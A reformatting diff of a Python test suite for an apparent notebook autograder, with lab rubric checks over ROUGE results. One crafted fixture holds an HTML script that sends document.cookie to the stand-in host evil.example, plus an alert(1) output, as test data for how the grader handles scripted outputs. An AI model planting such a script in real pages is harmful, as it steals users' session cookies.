@@ -62,8 +62,10 @@ def crafted_cases(folder: Path, canary: Path) -> dict[str, tuple[Path, str, str]
 
     scripted = make_notebook()
     scripted.cells[1].outputs = [
-        new_output("display_data", data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>",
-                                         "text/plain": "x"}),
+        new_output(
+            "display_data",
+            data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>", "text/plain": "x"},
+        ),
         new_output("display_data", data={"application/javascript": "alert(1)"}),
     ]
     add("html_script", scripted, "pass", "<script>")
@@ -107,9 +109,23 @@ def graded(tmp_path_factory, rubric):
 
 
 CASE_NAMES = [
-    "passing", "failing_thresholds", "errored_cell", "out_of_order", "wrong_lab", "tampered_results", "no_results",
-    "unanswered", "html_script", "writes_a_file", "malformed_json", "not_a_notebook", "json_list", "invalid_schema",
-    "binary", "deep_nesting", "oversized",
+    "passing",
+    "failing_thresholds",
+    "errored_cell",
+    "out_of_order",
+    "wrong_lab",
+    "tampered_results",
+    "no_results",
+    "unanswered",
+    "html_script",
+    "writes_a_file",
+    "malformed_json",
+    "not_a_notebook",
+    "json_list",
+    "invalid_schema",
+    "binary",
+    "deep_nesting",
+    "oversized",
 ]
 
 
@@ -272,12 +288,19 @@ def test_control_characters_in_submissions_are_not_printed(rubric, tmp_path):
 def test_a_record_with_lab1_keys_passes_the_lab1_rubric(tmp_path):
     """The lab1 rubric against a record shaped exactly like the shared API (wildcards over strategies)."""
     results = {
-        "n_eval": 120, "context_window": 512,
-        "rouge": {"no_prompt": rouge_scores(0.1), "instruction": rouge_scores(0.25), "flan": rouge_scores(0.2),
-                  "one_shot": rouge_scores(0.45), "few_shot": rouge_scores(0.44)},
+        "n_eval": 120,
+        "context_window": 512,
+        "rouge": {
+            "no_prompt": rouge_scores(0.1),
+            "instruction": rouge_scores(0.25),
+            "flan": rouge_scores(0.2),
+            "one_shot": rouge_scores(0.45),
+            "few_shot": rouge_scores(0.44),
+        },
         "zero_shot_best": {"name": "instruction", "rouge1": 0.25},
-        "shots_curve": [{"shots": k, "rouge1": 0.4, "rougeL": 0.3, "prompt_tokens_max": 200 * k, "fits": k < 3}
-                        for k in range(5)],
+        "shots_curve": [
+            {"shots": k, "rouge1": 0.4, "rougeL": 0.3, "prompt_tokens_max": 200 * k, "fits": k < 3} for k in range(5)
+        ],
         "overflow_detected": True,
     }
     notebook = make_notebook(lab="lab1", results=results)
